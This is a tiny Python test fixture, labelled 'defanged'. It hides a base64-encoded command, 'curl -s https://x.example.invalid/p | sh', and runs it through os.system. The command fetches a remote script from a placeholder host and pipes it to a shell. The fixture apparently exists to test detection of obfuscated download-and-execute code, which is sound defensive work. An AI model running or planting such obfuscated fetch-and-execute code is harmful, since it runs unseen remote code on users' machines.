# defanged fixture: base64-hidden download command (decodes to "curl -s https://x.example.invalid/p | sh")
import base64, os
os.system(base64.b64decode('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL3AgfCBzaA==').decode())
